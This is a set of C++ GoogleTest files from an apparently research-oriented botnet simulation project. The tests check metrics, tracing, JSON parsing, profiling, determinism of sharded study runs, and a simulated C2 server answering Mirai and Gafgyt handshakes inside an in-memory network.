  EXPECT_EQ(sched.executed_by_tag(static_cast<sim::PhaseTag>(Phase::kProbe)), 2u);
  EXPECT_EQ(sched.executed_by_tag(0), 1u);
  EXPECT_EQ(sched.executed(), 3u);
}

TEST(PhaseTags, OutOfRangeTagsFoldToOther) {
  sim::EventScheduler sched;
  sched.set_phase_tag(200);
  EXPECT_EQ(sched.phase_tag(), 0);
}

// --- end-to-end: the sharded-study determinism contract ----------------------

namespace {

core::ParallelStudyConfig small_study(int shards, int jobs) {
  core::ParallelStudyConfig cfg;
  cfg.base.seed = 22;
  cfg.base.world.total_samples = 120;
  cfg.base.run_probe_campaign = false;
  cfg.shards = shards;
  cfg.jobs = jobs;
  return cfg;
}

}  // namespace

TEST(ObsStudy, MetricsAreByteIdenticalAcrossWorkerCounts) {
  const auto serial = core::ParallelStudy(small_study(3, 1)).run();
  const auto contended = core::ParallelStudy(small_study(3, 3)).run();
  EXPECT_EQ(serial.metrics.to_json(), contended.metrics.to_json())
      << "metrics depend on thread scheduling";
  ASSERT_EQ(serial.shard_metrics.size(), 3u);
  ASSERT_EQ(contended.shard_metrics.size(), 3u);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(serial.shard_metrics[i].to_json(),
              contended.shard_metrics[i].to_json())
        << "shard " << i;
  }
}

TEST(ObsStudy, MergedCountersEqualStudyResultsFields) {
  const auto results = core::ParallelStudy(small_study(3, 3)).run();
  const auto& c = results.metrics.counters;
  EXPECT_EQ(c.at("sandbox_runs"), results.sandbox_runs);
  EXPECT_EQ(c.at("sim_events"), results.sim_events);
  EXPECT_EQ(c.at("samples_analysed"), results.d_samples.size());
  EXPECT_EQ(c.at("non_mips_skipped"), results.non_mips_skipped);
  EXPECT_EQ(c.at("ddos_records"), results.d_ddos.size());

  // The merged snapshot is exactly the shard snapshots folded in order.
  MetricsSnapshot refolded = results.shard_metrics[0];
  for (std::size_t i = 1; i < results.shard_metrics.size(); ++i) {
    refolded.merge(results.shard_metrics[i]);
  }
  EXPECT_EQ(refolded.to_json(), results.metrics.to_json());
}

TEST(ObsStudy, TraceMergeLabelsShardsAndExportParses) {
  auto cfg = small_study(2, 2);
  cfg.base.world.total_samples = 60;
  cfg.base.trace = true;
  const auto results = core::ParallelStudy(cfg).run();
  ASSERT_FALSE(results.trace.empty());
  bool saw_shard[2] = {false, false};
  for (const auto& e : results.trace) {
    ASSERT_GE(e.pid, 0);
    ASSERT_LT(e.pid, 2);
    saw_shard[e.pid] = true;
  }
  EXPECT_TRUE(saw_shard[0]);
  EXPECT_TRUE(saw_shard[1]);

  std::ostringstream os;
  write_chrome_trace(os, results.trace);
  const auto doc = json::parse(os.str());
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->find("traceEvents")->array.size(), results.trace.size());
}

TEST(ObsStudy, ProfileAttributesTheEventLoop) {
  auto cfg = small_study(1, 1);
  cfg.base.world.total_samples = 60;
  cfg.base.profile_wall = true;
  const auto results = core::ParallelStudy(cfg).run();
  const auto& prof = results.profile;
  EXPECT_EQ(prof.total_sim_events(), results.sim_events);
  EXPECT_GT(prof[Phase::kSandbox].sim_events, 0u);
  EXPECT_EQ(prof[Phase::kSandbox].ops, results.sandbox_runs);
  EXPECT_GT(prof[Phase::kCollect].entries, 0u);
  EXPECT_GT(prof.total_wall_ns(), 0u);
}

// --- quantile estimation (DESIGN.md §15) -------------------------------------

TEST(Quantile, EmptyHistogramHasNoQuantile) {
  HistogramSnapshot h;
  h.bounds = {10, 100};
  h.counts = {0, 0, 0};
  EXPECT_FALSE(h.quantile(0.5).has_value());

  MetricsSnapshot snap;
  snap.histograms["h"] = h;
  EXPECT_FALSE(snap.quantile("h", 0.5).has_value());
  EXPECT_FALSE(snap.quantile("no-such-histogram", 0.5).has_value());
}

TEST(Quantile, SingleBucketInterpolatesLinearly) {
  // All 100 observations in (0, 100]: the q-quantile is q * 100.
  HistogramSnapshot h;
  h.bounds = {100};
  h.counts = {100, 0};
  h.count = 100;
  ASSERT_TRUE(h.quantile(0.5).has_value());
  EXPECT_NEAR(*h.quantile(0.5), 50.0, 1.0);
  EXPECT_NEAR(*h.quantile(0.99), 99.0, 1.0);
  // Clamped q never leaves the bucket range.
  EXPECT_GE(*h.quantile(-1.0), 0.0);
  EXPECT_LE(*h.quantile(2.0), 100.0);
}

TEST(Quantile, OverflowBucketClampsToLastFiniteBound) {
  HistogramSnapshot h;
  h.bounds = {10, 100};
  h.counts = {1, 1, 98};  // nearly everything above the last bound
  h.count = 100;
  EXPECT_EQ(*h.quantile(0.99), 100.0);
  // The rank inside a finite bucket still interpolates.
  EXPECT_LE(*h.quantile(0.01), 10.0);
}

TEST(Quantile, MedianCrossesBuckets) {
  Histogram h({10, 20, 40});
  for (int i = 0; i < 10; ++i) h.record(5);    // (0,10]
  for (int i = 0; i < 10; ++i) h.record(15);   // (10,20]
  for (int i = 0; i < 10; ++i) h.record(35);   // (20,40]
  Registry reg;
  auto& rh = reg.histogram("lat", {10, 20, 40});
  for (int i = 0; i < 10; ++i) rh.record(5);
  for (int i = 0; i < 10; ++i) rh.record(15);
  for (int i = 0; i < 10; ++i) rh.record(35);
  const auto snap = reg.snapshot();
  const auto q50 = snap.quantile("lat", 0.5);
  ASSERT_TRUE(q50.has_value());
  EXPECT_GT(*q50, 10.0);
  EXPECT_LE(*q50, 20.0);
  const auto q99 = snap.quantile("lat", 0.99);
  ASSERT_TRUE(q99.has_value());
  EXPECT_GT(*q99, 20.0);
  EXPECT_LE(*q99, 40.0);
}

// --- registry namespaces (collision-shadowing regression) --------------------

TEST(Metrics, NamespaceRejectsForeignNames) {
  Registry reg;
  reg.set_namespace("store.");
  EXPECT_EQ(reg.name_namespace(), "store.");
  (void)reg.counter("store.queries");  // fine
  EXPECT_THROW((void)reg.counter("serve.requests"), std::invalid_argument);
  EXPECT_THROW((void)reg.gauge("requests"), std::invalid_argument);
  EXPECT_THROW((void)reg.histogram("sync.lat", {1}), std::invalid_argument);
}

TEST(Metrics, NamespaceValidatesExistingInstruments) {
  Registry reg;
  (void)reg.counter("serve.requests");
  // Claiming a namespace the existing names violate must throw — this is
  // the guard against two registries merging colliding families.
  EXPECT_THROW(reg.set_namespace("store."), std::invalid_argument);
  reg.set_namespace("serve.");  // consistent claim succeeds
  (void)reg.counter("serve.bytes_tx");
}

TEST(Metrics, NamespacedRegistriesMergeWithoutShadowing) {
  Registry store_reg, serve_reg;
  store_reg.set_namespace("store.");
  serve_reg.set_namespace("serve.");
  store_reg.counter("store.queries").inc(3);
  serve_reg.counter("serve.requests").inc(5);
  auto merged = store_reg.snapshot();
  merged.merge(serve_reg.snapshot());
  EXPECT_EQ(merged.counters.at("store.queries"), 3u);
  EXPECT_EQ(merged.counters.at("serve.requests"), 5u);
}

// --- windowed aggregation ----------------------------------------------------

namespace {

MetricsSnapshot counter_snap(std::uint64_t requests) {
  MetricsSnapshot s;
  s.counters["serve.requests"] = requests;
  s.gauges["serve.connections_active"] = static_cast<std::int64_t>(requests / 10);
  return s;
}

}  // namespace

TEST(SnapshotRing, WindowNeedsTwoSamples) {
  SnapshotRing ring;
  EXPECT_FALSE(ring.window(1'000'000).has_value());
  ring.push(1'000'000, counter_snap(10));
  EXPECT_FALSE(ring.window(1'000'000).has_value());
}

TEST(SnapshotRing, WindowDeltasAndGaugeLevels) {
  SnapshotRing ring;
  ring.push(1'000'000, counter_snap(10));
  ring.push(2'000'000, counter_snap(30));
  ring.push(3'000'000, counter_snap(60));
  const auto w = ring.window(2'000'000);
  ASSERT_TRUE(w.has_value());
  EXPECT_DOUBLE_EQ(w->seconds, 2.0);
  EXPECT_EQ(w->delta.counters.at("serve.requests"), 50u);  // 60 - 10
  // Gauges are levels, not rates: the newest value wins.
  EXPECT_EQ(w->delta.gauges.at("serve.connections_active"), 6);
  // A shorter window uses the closest covering sample.
  const auto w1 = ring.window(1'000'000);
  ASSERT_TRUE(w1.has_value());
  EXPECT_EQ(w1->delta.counters.at("serve.requests"), 30u);  // 60 - 30
}

TEST(SnapshotRing, ClampsRegressionsAndDropsStaleSamples) {
  SnapshotRing ring;
  ring.push(2'000'000, counter_snap(100));
  ring.push(1'000'000, counter_snap(999));  // stale timestamp: dropped
  ring.push(3'000'000, counter_snap(40));   // counter went backwards
  const auto w = ring.window(10'000'000);
  ASSERT_TRUE(w.has_value());
  EXPECT_EQ(w->delta.counters.at("serve.requests"), 0u);  // clamped, no wrap
  EXPECT_EQ(ring.size(), 2u);
}

TEST(SnapshotRing, BoundedCapacityEvictsOldest) {
  SnapshotRing ring(4);
  for (int i = 0; i < 10; ++i) {
    ring.push(i * 1'000'000, counter_snap(static_cast<std::uint64_t>(i)));
  }
  EXPECT_EQ(ring.size(), 4u);
  const auto w = ring.window(60'000'000);
  ASSERT_TRUE(w.has_value());
  EXPECT_DOUBLE_EQ(w->seconds, 3.0);  // only the retained span
}

// --- slow-request log --------------------------------------------------------

namespace {

SlowEntry slow_entry(std::int64_t latency_us, std::string op = "query:totals") {
  SlowEntry e;
  e.op = std::move(op);
  e.peer = "127.0.0.1:9";
  e.latency_us = latency_us;
  e.bytes = 42;
  return e;
}

}  // namespace

TEST(SlowLog, ThresholdGatesAndCapacityKeepsSlowest) {
  SlowLog log(/*capacity=*/3, /*threshold_us=*/100);
  log.record(slow_entry(50));  // below threshold: ignored
  EXPECT_EQ(log.seen(), 0u);
  for (const auto lat : {100, 300, 200, 900, 150}) log.record(slow_entry(lat));
  EXPECT_EQ(log.seen(), 5u);
  const auto entries = log.entries();
  ASSERT_EQ(entries.size(), 3u);
  EXPECT_EQ(entries[0].latency_us, 900);
  EXPECT_EQ(entries[1].latency_us, 300);
  EXPECT_EQ(entries[2].latency_us, 200);
}

TEST(SlowLog, ReconfigureShrinksAndRethresholds) {
  SlowLog log(8, 0);
  for (int i = 1; i <= 8; ++i) log.record(slow_entry(i * 10));
  log.configure(/*capacity=*/2, /*threshold_us=*/1'000);
  const auto entries = log.entries();
  ASSERT_EQ(entries.size(), 2u);
  EXPECT_EQ(entries[0].latency_us, 80);
  EXPECT_EQ(entries[1].latency_us, 70);
  log.record(slow_entry(500));  // now below the raised threshold
  EXPECT_EQ(log.entries().size(), 2u);
  EXPECT_EQ(log.threshold_us(), 1'000);
}

TEST(SlowLog, RenderTextCarriesTraceIds) {
  SlowLog log(4, 0);
  auto traced = slow_entry(123, "sync:put");
  traced.trace_id = 0xABCD;
  traced.span_id = 2;
  log.record(traced);
  log.record(slow_entry(50));
  const auto text = log.render_text();
  EXPECT_NE(text.find("slowlog threshold_us=0 seen=2 retained=2"),
            std::string::npos);
  EXPECT_NE(text.find("op=sync:put"), std::string::npos);
  EXPECT_NE(text.find("trace=0x000000000000abcd"), std::string::npos);
  EXPECT_NE(text.find("trace=-"), std::string::npos);
}

// --- json writer -------------------------------------------------------------

TEST(Json, WriteRoundTripsDeterministically) {
  const std::string doc =
      R"({"b":[1,2.5,true,null],"a":{"nested":"va\"l\nue"},"big":123456789012})";
  const auto parsed = json::parse(doc);
  ASSERT_TRUE(parsed.has_value());
  const auto once = json::write(*parsed);
  const auto reparsed = json::parse(once);
  ASSERT_TRUE(reparsed.has_value());
  EXPECT_EQ(json::write(*reparsed), once);  // fixed point
  // Keys are sorted, integral doubles have no fraction.
  EXPECT_EQ(once.find("\"a\""), 1u);
  EXPECT_NE(once.find("123456789012"), std::string::npos);
  EXPECT_EQ(once.find("123456789012.0"), std::string::npos);
}

// --- wall-clock spans and cross-node trace merging ---------------------------

TEST(Trace, WallCompleteRecordsWallSpan) {
  Tracer tracer;
  tracer.set_enabled(true);
  const auto start = wall_now_us();
  tracer.wall_complete("op", "serve", start - 1'000, "\"bytes\":7");
  ASSERT_EQ(tracer.events().size(), 1u);
  const auto& ev = tracer.events()[0];
  EXPECT_EQ(ev.phase, 'X');
  EXPECT_EQ(ev.clock, 'w');
  EXPECT_GE(ev.dur_us, 1'000);
  EXPECT_EQ(ev.wall_us, start - 1'000);
}

TEST(Trace, SpanRecorderIsDisabledByDefaultAndBounded) {
  SpanRecorder rec(2);
  rec.span("a", "serve", 0, 1, 1, 1);
  EXPECT_TRUE(rec.snapshot().empty());  // disabled: no-op
  rec.set_enabled(true);
  for (int i = 0; i < 5; ++i) rec.span("a", "serve", i, 1, 7, 1);
  EXPECT_EQ(rec.snapshot().size(), 2u);
  EXPECT_EQ(rec.dropped(), 3u);
  EXPECT_EQ(rec.snapshot()[0].trace_id, 7u);
}

TEST(Trace, MergeChromeTracesStampsPidsAndProcessNames) {
  SpanRecorder client(16), server(16);
  client.set_enabled(true);
  server.set_enabled(true);
  client.span("sync:put", "sync", 1'000, 500, 0xBEEF, 1, "\"bytes\":9");
  server.span("serve:sync:put", "sync", 1'100, 300, 0xBEEF, 1);
  const auto merged = merge_chrome_traces(
      {{"sync-client", chrome_trace_json(client.snapshot())},
       {"serve", chrome_trace_json(server.snapshot())}});
  ASSERT_TRUE(merged.has_value());
  const auto doc = json::parse(*merged);
  ASSERT_TRUE(doc.has_value());
  const auto* events = doc->find("traceEvents");
  ASSERT_NE(events, nullptr);
  int metadata = 0, spans_seen = 0;
  for (const auto& ev : events->array) {
    const auto* ph = ev.find("ph");
    ASSERT_NE(ph, nullptr);
    if (ph->str == "M") {
      ++metadata;
      continue;
    }
    ++spans_seen;
    const auto* pid = ev.find("pid");
    ASSERT_NE(pid, nullptr);
    EXPECT_TRUE(pid->number == 0.0 || pid->number == 1.0);
    const auto* trace = ev.at_path("args.trace");
    ASSERT_NE(trace, nullptr);
    EXPECT_EQ(trace->str, "0x000000000000beef");
  }
  EXPECT_EQ(metadata, 2);
  EXPECT_EQ(spans_seen, 2);
}

TEST(Trace, MergeChromeTracesRejectsMalformedDocuments) {
  EXPECT_FALSE(merge_chrome_traces({{"a", "not json"}}).has_value());
  EXPECT_FALSE(merge_chrome_traces({{"a", "{\"no\":\"events\"}"}}).has_value());
}
