// malnet::obs — metrics registry, sim-time tracer, per-phase profiler and
// the minimal JSON parser, plus the end-to-end determinism contract: a
// sharded study's merged metrics snapshot is a pure function of
// (config, shards), byte-identical for any worker count, and its headline
// counters equal the StudyResults fields they shadow.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "obs/json.hpp"
#include "obs/obs.hpp"
#include "sim/scheduler.hpp"

using namespace malnet;
using namespace malnet::obs;

// --- metrics -----------------------------------------------------------------

TEST(Metrics, CounterAndGaugeSemantics) {
  Counter c;
  EXPECT_EQ(c.value(), 0u);
  c.inc();
  c.inc(41);
  EXPECT_EQ(c.value(), 42u);

  Gauge g;
  g.set(-7);
  EXPECT_EQ(g.value(), -7);
  g.add(10);
  EXPECT_EQ(g.value(), 3);
}

TEST(Metrics, HistogramBucketsAreInclusiveUpperBounds) {
  Histogram h({0, 10, 100});
  ASSERT_EQ(h.bucket_count(), 4u);  // three bounds + overflow
  h.record(-5);   // <= 0
  h.record(0);    // <= 0
  h.record(1);    // <= 10
  h.record(10);   // <= 10
  h.record(11);   // <= 100
  h.record(999);  // overflow
  EXPECT_EQ(h.bucket(0), 2u);
  EXPECT_EQ(h.bucket(1), 2u);
  EXPECT_EQ(h.bucket(2), 1u);
  EXPECT_EQ(h.bucket(3), 1u);
  EXPECT_EQ(h.count(), 6u);
  EXPECT_EQ(h.sum(), -5 + 0 + 1 + 10 + 11 + 999);
}

TEST(Metrics, RegistryReturnsStableInstruments) {
  Registry reg;
  Counter& a = reg.counter("x");
  Counter& b = reg.counter("x");
  EXPECT_EQ(&a, &b);
  a.inc(3);
  EXPECT_EQ(reg.counter("x").value(), 3u);

  // First registration's bounds win; a second registration with different
  // bounds hands back the existing histogram.
  Histogram& h1 = reg.histogram("h", {1, 2});
  Histogram& h2 = reg.histogram("h", {100, 200, 300});
  EXPECT_EQ(&h1, &h2);
  EXPECT_EQ(h2.bounds(), (std::vector<std::int64_t>{1, 2}));
}

TEST(Metrics, SnapshotCapturesAndRendersDeterministically) {
  Registry reg;
  reg.counter("b").inc(2);
  reg.counter("a").inc(1);
  reg.gauge("g").set(-4);
  reg.histogram("h", {10}).record(7);

  const MetricsSnapshot snap = reg.snapshot();
  EXPECT_EQ(snap.counters.at("a"), 1u);
  EXPECT_EQ(snap.counters.at("b"), 2u);
  EXPECT_EQ(snap.gauges.at("g"), -4);
  EXPECT_EQ(snap.histograms.at("h").count, 1u);

  const std::string json = snap.to_json();
  EXPECT_EQ(json, reg.snapshot().to_json()) << "rendering must be stable";
  // Keys render sorted, so "a" precedes "b" regardless of creation order.
  EXPECT_LT(json.find("\"a\""), json.find("\"b\""));

  const auto doc = json::parse(json);
  ASSERT_TRUE(doc.has_value());
  ASSERT_NE(doc->at_path("counters.a"), nullptr);
  EXPECT_EQ(doc->at_path("counters.a")->number, 1.0);
  EXPECT_EQ(doc->at_path("gauges.g")->number, -4.0);
  ASSERT_NE(doc->at_path("histograms.h"), nullptr);
  EXPECT_TRUE(doc->at_path("histograms.h.bounds")->is_array());
}

namespace {

MetricsSnapshot make_snapshot(std::uint64_t a, std::uint64_t shared,
                              std::int64_t hist_value) {
  Registry reg;
  reg.counter("only_" + std::to_string(a)).inc(a);
  reg.counter("shared").inc(shared);
  reg.gauge("level").add(static_cast<std::int64_t>(shared));
  reg.histogram("dist", {0, 10, 100}).record(hist_value);
  return reg.snapshot();
}

}  // namespace

TEST(Metrics, MergeIsOrderIndependentAndAssociative) {
  const MetricsSnapshot s1 = make_snapshot(1, 10, 5);
  const MetricsSnapshot s2 = make_snapshot(2, 20, 50);
  const MetricsSnapshot s3 = make_snapshot(3, 30, 500);

  MetricsSnapshot abc = s1;
  abc.merge(s2);
  abc.merge(s3);

  MetricsSnapshot cba = s3;
  cba.merge(s2);
  cba.merge(s1);

  MetricsSnapshot a_bc = s1;
  {
    MetricsSnapshot bc = s2;
    bc.merge(s3);
    a_bc.merge(bc);
  }

  EXPECT_EQ(abc.to_json(), cba.to_json());
  EXPECT_EQ(abc.to_json(), a_bc.to_json());
  EXPECT_EQ(abc.counters.at("shared"), 60u);
  EXPECT_EQ(abc.histograms.at("dist").count, 3u);
  EXPECT_EQ(abc.histograms.at("dist").sum, 555);
}

TEST(Metrics, MergeRejectsMismatchedHistogramBounds) {
  Registry r1, r2;
  r1.histogram("h", {1, 2}).record(1);
  r2.histogram("h", {5}).record(1);
  MetricsSnapshot a = r1.snapshot();
  const MetricsSnapshot b = r2.snapshot();
  EXPECT_THROW(a.merge(b), std::invalid_argument);
}

// --- tracer ------------------------------------------------------------------

TEST(Trace, DisabledTracerBuffersNothing) {
  Tracer t;
  t.instant("x", "cat");
  t.complete("y", "cat", 0);
  EXPECT_TRUE(t.events().empty());
  EXPECT_EQ(t.dropped(), 0u);
}

TEST(Trace, RecordsAgainstTheSimClock) {
  Tracer t;
  std::int64_t sim_now = 1'000;
  t.set_enabled(true);
  t.set_sim_clock([&sim_now]() { return sim_now; });

  t.instant("boot", "pipeline", "\"k\":1");
  sim_now = 5'000;
  t.complete("run", "sandbox", 1'000);

  ASSERT_EQ(t.events().size(), 2u);
  EXPECT_EQ(t.events()[0].phase, 'i');
  EXPECT_EQ(t.events()[0].sim_us, 1'000);
  EXPECT_EQ(t.events()[1].phase, 'X');
  EXPECT_EQ(t.events()[1].sim_us, 1'000);
  EXPECT_EQ(t.events()[1].dur_us, 4'000);
}

TEST(Trace, CapacityBoundsTheBuffer) {
  Tracer t;
  t.set_enabled(true);
  t.set_capacity(2);
  for (int i = 0; i < 5; ++i) t.instant("e", "cat");
  EXPECT_EQ(t.events().size(), 2u);
  EXPECT_EQ(t.dropped(), 3u);
}

TEST(Trace, ChromeExportRoundTripsThroughTheJsonParser) {
  Tracer t;
  t.set_enabled(true);
  std::int64_t sim_now = 42;
  t.set_sim_clock([&sim_now]() { return sim_now; });
  t.instant("quo\"ted\n", "pipeline", "\"c2\":\"60.1.2.3:23\"");
  sim_now = 99;
  t.complete("span", "sandbox", 42);

  std::ostringstream os;
  write_chrome_trace(os, t.events());
  const auto doc = json::parse(os.str());
  ASSERT_TRUE(doc.has_value()) << os.str();
  const json::Value* events = doc->find("traceEvents");
  ASSERT_NE(events, nullptr);
  ASSERT_TRUE(events->is_array());
  ASSERT_EQ(events->array.size(), 2u);

  const json::Value& instant = events->array[0];
  EXPECT_EQ(instant.find("ph")->str, "i");
  EXPECT_EQ(instant.find("ts")->number, 42.0);
  ASSERT_NE(instant.find("args"), nullptr);
  EXPECT_EQ(instant.find("args")->find("c2")->str, "60.1.2.3:23");

  const json::Value& span = events->array[1];
  EXPECT_EQ(span.find("ph")->str, "X");
  EXPECT_EQ(span.find("dur")->number, 57.0);
  EXPECT_EQ(span.find("cat")->str, "sandbox");

  std::ostringstream timeline;
  write_timeline(timeline, t.events());
  EXPECT_NE(timeline.str().find("span"), std::string::npos);
}

// --- json parser -------------------------------------------------------------

TEST(Json, ParsesScalarsArraysAndObjects) {
  const auto doc = json::parse(R"({"n":-1.5e2,"s":"a\"b","t":true,"z":null,
                                   "arr":[1,2,3],"o":{"k":1}})");
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->find("n")->number, -150.0);
  EXPECT_EQ(doc->find("s")->str, "a\"b");
  EXPECT_TRUE(doc->find("t")->boolean);
  EXPECT_EQ(doc->find("z")->type, json::Value::Type::kNull);
  EXPECT_EQ(doc->find("arr")->array.size(), 3u);
  EXPECT_EQ(doc->at_path("o.k")->number, 1.0);
}

TEST(Json, RejectsMalformedDocuments) {
  EXPECT_FALSE(json::parse("{").has_value());
  EXPECT_FALSE(json::parse("{\"a\":}").has_value());
  EXPECT_FALSE(json::parse("[1,2,]").has_value());
  EXPECT_FALSE(json::parse("{} trailing").has_value());
  EXPECT_FALSE(json::parse("\"unterminated").has_value());
}

TEST(Json, DottedPathPrefersFullMemberNames) {
  // Metric names contain dots ("net.packets_sent"); at_path must try the
  // whole remainder as one member before splitting at the first dot.
  const auto doc = json::parse(
      R"({"counters":{"net.packets_sent":7,"net":{"packets_sent":1}}})");
  ASSERT_TRUE(doc.has_value());
  ASSERT_NE(doc->at_path("counters.net.packets_sent"), nullptr);
  EXPECT_EQ(doc->at_path("counters.net.packets_sent")->number, 7.0);
  EXPECT_EQ(doc->at_path("counters.missing"), nullptr);
}

// --- profiler ----------------------------------------------------------------

TEST(Profile, ScopedTimerAccumulates) {
  ProfileSnapshot p;
  {
    ScopedTimer t(p[Phase::kFinalize]);
  }
  {
    ScopedTimer t(p[Phase::kFinalize]);
  }
  EXPECT_EQ(p[Phase::kFinalize].entries, 2u);
  EXPECT_EQ(p.total_sim_events(), 0u);
}

TEST(Profile, MergeAddsAndTableRenders) {
  ProfileSnapshot a, b;
  a[Phase::kSandbox] = {100, 10, 5, 1};
  b[Phase::kSandbox] = {50, 4, 2, 1};
  b[Phase::kCampaign] = {7, 3, 1, 1};
  a.merge(b);
  EXPECT_EQ(a[Phase::kSandbox].wall_ns, 150u);
  EXPECT_EQ(a[Phase::kSandbox].sim_events, 14u);
  EXPECT_EQ(a[Phase::kSandbox].ops, 7u);
  EXPECT_EQ(a.total_sim_events(), 17u);

  const std::string table = a.render_table();
  EXPECT_NE(table.find("sandbox"), std::string::npos);
  EXPECT_NE(table.find("campaign"), std::string::npos);
  // Idle phases are not rendered.
  EXPECT_EQ(table.find("live-watch"), std::string::npos);

  const auto doc = json::parse(a.to_json());
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->at_path("phases.sandbox.sim_events")->number, 14.0);
}

// --- scheduler phase tags ----------------------------------------------------

TEST(PhaseTags, EventsInheritAndRestoreTheAmbientTag) {
  sim::EventScheduler sched;
  std::uint64_t chained_tag = 99;
  {
    sim::ScopedPhaseTag tag(sched, static_cast<sim::PhaseTag>(Phase::kProbe));
    sched.after(sim::Duration::seconds(1), [&sched, &chained_tag]() {
      // Firing restored kProbe as ambient, so this chained event inherits it.
      sched.after(sim::Duration::seconds(1),
                  [&sched, &chained_tag]() { chained_tag = sched.phase_tag(); });
    });
  }
  ASSERT_EQ(sched.phase_tag(), 0) << "scope must restore the previous tag";
  sched.after(sim::Duration::seconds(1), []() {});  // untagged
  sched.run();
  EXPECT_EQ(chained_tag, static_cast<std::uint64_t>(Phase::kProbe));
  EXPECT_EQ(sched.executed_by_tag(static_cast<sim::PhaseTag>(Phase::kProbe)), 2u);
  EXPECT_EQ(sched.executed_by_tag(0), 1u);
  EXPECT_EQ(sched.executed(), 3u);
}

TEST(PhaseTags, OutOfRangeTagsFoldToOther) {
  sim::EventScheduler sched;
  sched.set_phase_tag(200);
  EXPECT_EQ(sched.phase_tag(), 0);
}

// --- end-to-end: the sharded-study determinism contract ----------------------

namespace {

core::ParallelStudyConfig small_study(int shards, int jobs) {
  core::ParallelStudyConfig cfg;
  cfg.base.seed = 22;
  cfg.base.world.total_samples = 120;
  cfg.base.run_probe_campaign = false;
  cfg.shards = shards;
  cfg.jobs = jobs;
  return cfg;
}

}  // namespace

TEST(ObsStudy, MetricsAreByteIdenticalAcrossWorkerCounts) {
  const auto serial = core::ParallelStudy(small_study(3, 1)).run();
  const auto contended = core::ParallelStudy(small_study(3, 3)).run();
  EXPECT_EQ(serial.metrics.to_json(), contended.metrics.to_json())
      << "metrics depend on thread scheduling";
  ASSERT_EQ(serial.shard_metrics.size(), 3u);
  ASSERT_EQ(contended.shard_metrics.size(), 3u);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(serial.shard_metrics[i].to_json(),
              contended.shard_metrics[i].to_json())
        << "shard " << i;
  }
}

TEST(ObsStudy, MergedCountersEqualStudyResultsFields) {
  const auto results = core::ParallelStudy(small_study(3, 3)).run();
  const auto& c = results.metrics.counters;
  EXPECT_EQ(c.at("sandbox_runs"), results.sandbox_runs);
  EXPECT_EQ(c.at("sim_events"), results.sim_events);
  EXPECT_EQ(c.at("samples_analysed"), results.d_samples.size());
  EXPECT_EQ(c.at("non_mips_skipped"), results.non_mips_skipped);
  EXPECT_EQ(c.at("ddos_records"), results.d_ddos.size());

  // The merged snapshot is exactly the shard snapshots folded in order.
  MetricsSnapshot refolded = results.shard_metrics[0];
  for (std::size_t i = 1; i < results.shard_metrics.size(); ++i) {
    refolded.merge(results.shard_metrics[i]);
  }
  EXPECT_EQ(refolded.to_json(), results.metrics.to_json());
}

TEST(ObsStudy, TraceMergeLabelsShardsAndExportParses) {
  auto cfg = small_study(2, 2);
  cfg.base.world.total_samples = 60;
  cfg.base.trace = true;
  const auto results = core::ParallelStudy(cfg).run();
  ASSERT_FALSE(results.trace.empty());
  bool saw_shard[2] = {false, false};
  for (const auto& e : results.trace) {
    ASSERT_GE(e.pid, 0);
    ASSERT_LT(e.pid, 2);
    saw_shard[e.pid] = true;
  }
  EXPECT_TRUE(saw_shard[0]);
  EXPECT_TRUE(saw_shard[1]);

  std::ostringstream os;
  write_chrome_trace(os, results.trace);
  const auto doc = json::parse(os.str());
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->find("traceEvents")->array.size(), results.trace.size());
}

TEST(ObsStudy, ProfileAttributesTheEventLoop) {
  auto cfg = small_study(1, 1);
  cfg.base.world.total_samples = 60;
  cfg.base.profile_wall = true;
  const auto results = core::ParallelStudy(cfg).run();
  const auto& prof = results.profile;
  EXPECT_EQ(prof.total_sim_events(), results.sim_events);
  EXPECT_GT(prof[Phase::kSandbox].sim_events, 0u);
  EXPECT_EQ(prof[Phase::kSandbox].ops, results.sandbox_runs);
  EXPECT_GT(prof[Phase::kCollect].entries, 0u);
  EXPECT_GT(prof.total_wall_ns(), 0u);
}
