#include <gtest/gtest.h>

#include <set>

#include "botnet/c2server.hpp"
#include "botnet/downloader.hpp"
#include "botnet/probe_world.hpp"
#include "botnet/world.hpp"
#include "inetsim/http.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/gafgyt.hpp"
#include "proto/mirai.hpp"

using namespace malnet;
using namespace malnet::botnet;

namespace {
struct Sim {
  sim::EventScheduler sched;
  sim::Network net{sched};
};

C2ServerConfig always_on(proto::Family family, net::Ipv4 ip, net::Port port) {
  C2ServerConfig cfg;
  cfg.family = family;
  cfg.ip = ip;
  cfg.port = port;
  cfg.accept_prob = 1.0;
  return cfg;
}
}  // namespace

// --- C2Server per-family session handling -------------------------------------

TEST(C2Server, MiraiRegistersAndEchoesKeepalive) {
  Sim s;
  C2Server server(s.net, always_on(proto::Family::kMirai, {60, 0, 0, 1}, 23),
                  util::Rng(1));
  sim::Host bot(s.net, net::Ipv4{10, 0, 0, 9});
  int replies = 0;
  bot.tcp_connect({server.endpoint().ip, 23}, [&](sim::ConnectOutcome o, sim::TcpConn* c) {
    ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
    c->on_data([&](sim::TcpConn&, util::BytesView d) {
      if (proto::mirai::is_keepalive(d)) ++replies;
    });
    c->send(util::BytesView{proto::mirai::encode_handshake("bot")});
  });
  s.sched.run_until(s.sched.now() + sim::Duration::seconds(30));
  EXPECT_EQ(server.sessions_served(), 1u);
  EXPECT_GE(replies, 1);
}

TEST(C2Server, GafgytAnswersBuildWithPing) {
  Sim s;
  C2Server server(s.net, always_on(proto::Family::kGafgyt, {60, 0, 0, 2}, 666),
                  util::Rng(2));
  sim::Host bot(s.net, net::Ipv4{10, 0, 0, 9});
  std::string got;
  bot.tcp_connect({server.endpoint().ip, 666}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->on_data([&](sim::TcpConn&, util::BytesView d) { got += util::to_string(d); });
    c->send(proto::gafgyt::encode_hello("MIPS"));
  });
  s.sched.run_until(s.sched.now() + sim::Duration::seconds(10));
  EXPECT_EQ(got, "PING\n");
}

